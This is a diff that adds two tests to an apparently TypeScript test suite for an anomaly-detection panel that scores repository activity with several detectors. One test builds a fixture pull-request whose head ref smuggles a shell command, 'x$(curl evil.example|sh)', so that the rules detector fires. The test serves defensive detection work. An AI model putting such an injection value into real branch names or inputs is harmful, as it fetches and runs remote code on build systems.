@@ -47,4 +47,29 @@ describe("the panel", () => {
     expect(rest.map((each) => restored.judge(each))).toEqual(rest.map((each) => live.judge(each)));
     expect(restored.save(true)).toEqual(live.save(true));
   });
+
+  it("does without the detectors that are left out", () => {
+    const extractor = new FeatureExtractor();
+    const observations = Array.from({ length: 2500 }, (_, n) => extractor.observe(push(n)));
+    for (let n = 0; n < 150; n++) {
+      const at = NOON + 2_500_000 + n;
+      observations.push(extractor.observe(activity("push", { id: `b${n}`, at, actor: "mallory", repo: `m/x${n}` })));
+    }
+    observations.push(extractor.observe(activity("pull-request", { headRef: "x$(curl evil.example|sh)" })));
+    const heard = (without: readonly string[]) => {
+      const panel = new Panel({ ...OPTIONS, without });
+      const scores = observations.flatMap((each) => panel.judge(each)?.scores ?? []);
+      return [...new Set(scores.map(({ detector }) => detector.replace(/^rule:.*/, "rules")))].sort();
+    };
+
+    expect(heard([])).toEqual(["forest", "rate", "rules", "spread"]);
+    expect(heard(["forest"])).toEqual(["rate", "rules", "spread"]);
+    expect(heard(["rate"])).toEqual(["forest", "rules", "spread"]);
+    expect(heard(["rules"])).toEqual(["forest", "rate", "spread"]);
+    expect(heard(new Panel(OPTIONS).detectors)).toEqual([]);
+  });
+
+  it("refuses to leave out what is not there", () => {
+    expect(() => new Panel({ ...OPTIONS, without: ["forrest"] })).toThrow('no detector is called "forrest"');
+  });
 });
